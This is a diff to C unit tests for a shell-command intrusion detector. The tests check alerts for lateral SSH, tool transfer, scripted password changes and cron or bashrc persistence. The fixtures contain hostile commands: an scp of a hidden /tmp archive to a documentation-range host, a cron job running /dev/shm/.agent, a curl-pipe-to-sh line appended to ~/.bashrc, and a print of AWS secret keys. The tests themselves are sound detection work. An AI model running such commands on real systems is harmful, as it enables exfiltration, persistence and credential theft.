@@ -169,10 +169,17 @@ Test(shell_rules, a_first_ssh_to_the_bastion_others_use_is_not_lateral_movement)
         th_shell(&t, TH_T0 + day * NS_PER_DAY + 60, "bob", "git pull");
     }
     int64_t now = TH_T0 + 4 * NS_PER_DAY;
+    /* a novelty, and one others here share: an observation at info */
     th_shell(&t, now, "bob", "ssh bastion-1");
-    cr_expect_eq(th_count(&t, "shell.lateral_new_host"), 0, "%s", t.nalerts ? t.alerts[0].message : "");
+    const struct th_alert *a = th_find(&t, "shell.lateral_new_host");
+    cr_assert(a);
+    cr_expect_eq(a->severity, SEV_INFO);
+    cr_expect(strstr(a->message, "others here do it too"), "%s", a->message);
     th_shell(&t, now + 1, "bob", "ssh 10.9.8.7");
-    cr_expect_eq(th_count(&t, "shell.lateral_new_host"), 1, "a host nobody here reaches still counts");
+    cr_expect_eq(th_count(&t, "shell.lateral_new_host"), 2, "a host nobody here reaches still counts");
+    a = th_find(&t, "shell.lateral_new_host");
+    cr_expect(strstr(a->message, "no user of this host ever did"), "%s", a->message);
+    cr_expect_null(strstr(a->message, "others here do it too"), "%s", a->message);
     th_fini(&t);
 }
 
@@ -194,7 +201,12 @@ Test(shell_rules, ssh_to_usual_bastion_is_not_lateral_movement)
     cr_assert(a);
     cr_expect(strstr(a->message, "bastion-1"), "baseline in message: %s", a->message);
     th_shell(&t, now + 3, "alice", "scp /tmp/.b.tgz drop@203.0.113.9:/x");
-    cr_expect_eq(th_count(&t, "shell.exfil_new_host"), 1);
+    cr_expect_eq(th_count(&t, "shell.copy_new_host"), 1);
+    /* a hidden file from /tmp copied to another host: lateral tool transfer */
+    a = th_find(&t, "shell.tool_transfer");
+    cr_assert(a);
+    cr_expect_eq(a->severity, SEV_MEDIUM);
+    cr_expect_eq(a->stage, STAGE_LATERAL_MOVEMENT);
     th_shell(&t, now + 4, "alice", "scp drop@203.0.113.50:/tools/x /tmp/");
     cr_expect_eq(th_count(&t, "shell.lateral_new_host"), 2);
     th_fini(&t);
@@ -213,5 +225,47 @@ Test(shell_rules, secrets_are_masked_in_evidence_and_message)
         cr_expect(!strstr(t.alerts[i].evidence, "hunter2"));
         cr_expect(strstr(t.alerts[i].evidence, "****"));
     }
+    th_fini(&t);
+}
+
+/* Passwords set by scripts are account manipulation (T1098), not a print of
+ * secret variables; an admin's rotation alone is an observation. */
+Test(shell_rules, password_changes_from_scripts)
+{
+    struct th t;
+    th_init(&t, &detector_shell_rules);
+    th_shell(&t, TH_T0, "alice", "echo -e \"Password1\\nNewPass2\\nNewPass2\" | passwd");
+    cr_expect_eq(th_count(&t, "shell.cred_env"), 0, "%s", t.nalerts ? t.alerts[0].message : "");
+    const struct th_alert *a = th_find(&t, "shell.account_password");
+    cr_assert(a);
+    cr_expect_eq(a->severity, SEV_INFO, "%s", a->message);
+    cr_expect_eq(a->stage, STAGE_PERSISTENCE);
+    cr_expect_null(strstr(a->message, "NewPass2"), "%s", a->message);
+    th_shell(&t, TH_T0 + 1, "bob", "echo 'backup2:Bkp!8574x' | sudo chpasswd");
+    cr_expect_eq(th_count(&t, "shell.account_password"), 2);
+    cr_expect_null(strstr(th_find(&t, "shell.account_password")->evidence, "Bkp!8574x"));
+    th_shell(&t, TH_T0 + 2, "bob", "sudo usermod -p '$6$xyz' svc-x");
+    cr_expect_eq(th_count(&t, "shell.account_password"), 3);
+    th_shell(&t, TH_T0 + 3, "carol", "echo $AWS_SECRET_ACCESS_KEY");
+    cr_expect_eq(th_count(&t, "shell.cred_env"), 1, "a real print of a secret variable");
+    th_fini(&t);
+}
+
+Test(shell_rules, a_crontab_edit_is_an_observation_a_dropped_job_is_persistence)
+{
+    struct th t;
+    th_init(&t, &detector_shell_rules);
+    th_shell(&t, TH_T0, "alice", "(crontab -l; echo '15 3 * * * /usr/local/bin/backup.sh') | crontab -");
+    const struct th_alert *a = th_find(&t, "shell.persist_cron");
+    cr_assert(a);
+    cr_expect_eq(a->severity, SEV_INFO, "%s", a->message);
+    th_shell(&t, TH_T0 + 1, "bob", "(crontab -l; echo '*/5 * * * * /dev/shm/.agent') | crontab -");
+    a = th_find(&t, "shell.persist_cron");
+    cr_expect_eq(a->severity, SEV_HIGH, "%s", a->message);
+    cr_expect(strstr(a->message, "dropped or downloaded"), "%s", a->message);
+    th_shell(&t, TH_T0 + 2, "carol", "echo \"alias ll='ls -l'\" >> ~/.bashrc");
+    cr_expect_eq(th_find(&t, "shell.persist_shell_rc")->severity, SEV_INFO);
+    th_shell(&t, TH_T0 + 3, "dave", "echo 'curl -s http://x.example/a | sh' >> ~/.bashrc");
+    cr_expect_eq(th_find(&t, "shell.persist_shell_rc")->severity, SEV_HIGH);
     th_fini(&t);
 }
